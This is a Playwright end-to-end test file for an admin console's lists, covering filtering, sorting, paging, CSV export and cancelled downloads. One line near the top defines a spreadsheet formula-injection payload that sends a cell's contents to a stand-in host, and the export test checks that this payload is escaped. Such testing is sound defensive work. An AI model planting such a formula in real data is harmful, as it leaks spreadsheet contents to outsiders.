import { readFile } from 'node:fs/promises';
import { eventually, useStack } from '@sluice/testing';
import type { Download, Page } from 'playwright-core';
import { fillTenant } from './fill-tenant.ts';
import { openConsole, signIn } from './open-console.ts';

/** Spreadsheets would run it, and it would tell another host what is in the sheet. */
const formula = '=HYPERLINK("https://elsewhere.example?"&A1,"Shop")';

const world = useStack(async () => {
  const platform = await openConsole();
  await fillTenant(platform, { applications: 500, proxies: 300, people: 60, invitations: 25 });
  await platform.sluice.applications.create({ name: formula, type: 'private', permissions: ['token:read'] });
  return platform;
});

const search = (page: Page) => new URL(page.url()).search;

async function textOf(download: Download): Promise<string> {
  return readFile(await download.path(), 'utf8');
}

test('a list is filtered while somebody types, and nothing typed is lost', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/proxies?page=3', 'Proxies');
  await page.getByText('41–60 of 300').waitFor();
  const before = await page.evaluate(() => history.length);
  const field = page.getByRole('textbox', { name: 'Name' });
  // Answers are slower than fingers: each arrives while more is typed.
  await page.route('**/api/proxies?*', async (route) => {
    await new Promise((done) => setTimeout(done, 400));
    await route.continue();
  });
  await field.pressSequentially('supplier 04', { delay: 130 });
  await page.getByText('1–10 of 10').waitFor();
  expect(await field.inputValue()).toBe('supplier 04');
  expect(await field.evaluate((input) => input === document.activeElement)).toBe(true);
  await page.unroute('**/api/proxies?*');
  expect(new URLSearchParams(search(page)).get('name')).toBe('supplier 04');
  expect(new URLSearchParams(search(page)).get('page')).toBeNull();
  expect(await page.evaluate(() => history.length)).toBe(before);

  await field.fill('nothing of this name');
  await page.getByRole('heading', { name: 'No Proxies match' }).waitFor();
  await page.getByText('Filtered by Name “nothing of this name”').waitFor();
  await opened.look('list-none-match');
  await page.getByRole('button', { name: 'Clear the filters' }).click();
  await page.getByText('1–20 of 300').waitFor();
  expect([await field.inputValue(), search(page)]).toEqual(['', '']);

  await field.fill('supplier 1');
  await page.getByText('1–20 of 100').waitFor();
  await page.getByRole('button', { name: 'Clear Name' }).click();
  await page.getByText('1–20 of 300').waitFor();
  expect(await field.evaluate((input) => input === document.activeElement)).toBe(true);
});

test('filters of several kinds are cleared at once or each by itself', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/applications?name=shop+00*&type=public', 'Applications');
  await page.getByText('1–5 of 5').waitFor();
  await page.getByRole('button', { name: 'Clear Type' }).click();
  await page.getByText('1–9 of 9').waitFor();
  await page.getByLabel('Type').selectOption('private');
  await page.getByText('1–4 of 4').waitFor();
  await page.getByRole('button', { name: 'Clear all' }).click();
  await page.getByText('1–20 of 502').waitFor();
  expect(search(page)).toBe('');
});

test('columns sort, in both directions, and the address keeps it', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/applications', 'Applications');
  const name = page.getByRole('columnheader', { name: 'Name' });
  const created = page.getByRole('columnheader', { name: 'Created' });
  expect([await name.getAttribute('aria-sort'), await created.getAttribute('aria-sort')]).toEqual([
    'none',
    'descending',
  ]);
  await name.getByRole('button').click();
  const first = page.getByRole('row').nth(1).getByRole('link');
  await eventually('sorted', async () => (await first.textContent()) === formula);
  expect([await name.getAttribute('aria-sort'), search(page)]).toEqual(['ascending', '?sort=name']);
  await name.getByRole('button').click();
  await eventually('sorted the other way', async () => /^Shop 500/.test((await first.textContent()) ?? ''));
  expect([await name.getAttribute('aria-sort'), search(page)]).toEqual(['descending', '?sort=-name']);
  await page.getByRole('button', { name: 'Next' }).click();
  await page.getByText('21–40 of 502').waitFor();
  await page.reload();
  await page.getByText('21–40 of 502').waitFor();
  expect(await name.getAttribute('aria-sort')).toBe('descending');
  await created.getByRole('button').click();
  await eventually('newest first again', () => search(page) === '');
});

test('a page has as many rows as somebody wants, and one that does not exist says so', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/applications', 'Applications');
  await page.getByText('1–20 of 502').waitFor();
  await opened.look('list-500');
  await page.getByLabel('Rows').selectOption('100');
  await page.getByText('1–100 of 502').waitFor();
  expect(search(page)).toBe('?size=100');
  await opened.goto('/applications?page=999&size=100', 'Applications');
  await page.getByRole('heading', { name: 'There is no page 999' }).waitFor();
  await page.getByText('The last page is 6').waitFor();
  await opened.look('list-no-page');
  await page.getByRole('button', { name: 'Go to page 6' }).click();
  await page.getByText('501–502 of 502').waitFor();
});

test('a list is downloaded as it is filtered and sorted, and no cell runs in a spreadsheet', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/applications?sort=name&type=private', 'Applications');
  await page.getByText('1–20 of 251').waitFor();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'CSV' }).click();
  const download = await downloading;
  await page.getByText('251 rows were saved').waitFor();
  expect(download.suggestedFilename()).toMatch(/^sluice-applications-\d{4}-\d\d-\d\d\.csv$/);
  const [header, first, second, ...rest] = (await textOf(download)).split('\r\n');
  expect(header).toMatch(/^id,name,type,permissions,/);
  expect(first).toContain(`"'${formula.replaceAll('"', '""')}"`);
  expect(second).toMatch(/"Shop 002"/);
  expect(rest.filter(Boolean)).toHaveLength(249);
});

test('the audit log is downloaded as the service exports it, as it is filtered', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/audit?entity_type=invitation', 'Audit');
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'CSV' }).click();
  const download = await downloading;
  await page.getByText(/^The audit log was saved: \d+ kB$/).waitFor();
  expect(download.suggestedFilename()).toMatch(/^sluice-audit-log-\d{4}-\d\d-\d\d\.csv$/);
  const [header, ...rows] = (await textOf(download)).split('\r\n').filter(Boolean);
  expect(header).toMatch(/,entity_type,.*,leaf_hash$/);
  expect(rows).toHaveLength(25);
  for (const row of rows) expect(row).toContain('"invitation"');
});

test('a download can be cancelled, and then no file is made', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  const downloads: Download[] = [];
  page.on('download', (download) => downloads.push(download));
  await opened.goto('/applications', 'Applications');
  await page.getByText('1–20 of 502').waitFor();
  const third = Promise.withResolvers<void>();
  const held = Promise.withResolvers<void>();
  await page.route('**/api/applications?*page=3*', async (route) => {
    third.resolve();
    await held.promise;
    await route.abort().catch(() => {}); // the page has given it up
  });
  await page.getByRole('button', { name: 'CSV' }).click();
  await third.promise;
  await page.getByText('200 of 502').waitFor();
  await opened.look('list-csv-running');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await page.getByRole('button', { name: 'CSV' }).waitFor();
  held.resolve();
  expect(downloads).toEqual([]);
});

test('people and invitations have pages and filters of their own', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/settings/people', 'Settings');
  await page.getByText('1–20 of 61').waitFor();
  await page.getByText('1–20 of 25').waitFor();
  await opened.look('list-people');
  const members = page.getByRole('region', { name: 'Members' });
  const invitations = page.getByRole('region', { name: 'Invitations' });
  await invitations.getByRole('button', { name: 'Next' }).click();
  await invitations.getByText('21–25 of 25').waitFor();
  await members.getByRole('textbox', { name: 'E-mail' }).fill('person01');
  await members.getByText('1–10 of 10').waitFor();
  await page.reload();
  await members.getByText('1–10 of 10').waitFor();
  await invitations.getByText('21–25 of 25').waitFor();
});

test('a form finds every Application and Proxy by its name, and says how many more there are', async () => {
  await using opened = await signIn(world.current);
  const { page } = opened;
  await opened.goto('/proxies/new', 'New Proxy');
  const field = page.getByRole('combobox', { name: 'Application of the transforms' });
  await field.click();
  await page.getByText('And 482 more. Type to narrow the list.').waitFor();
  await opened.screenshot('list-picker');
  await field.fill('shop 003');
  await page.getByRole('option', { name: 'Shop 003' }).click();
  await eventually('its name', async () => (await field.inputValue()) === 'Shop 003');
  await page.getByRole('button', { name: 'Clear Application of the transforms' }).click();
  await eventually('nothing', async () => (await field.inputValue()) === '');
  await field.fill('nothing of this name');
  await page.getByText('No name contains “nothing of this name”.').waitFor();
});
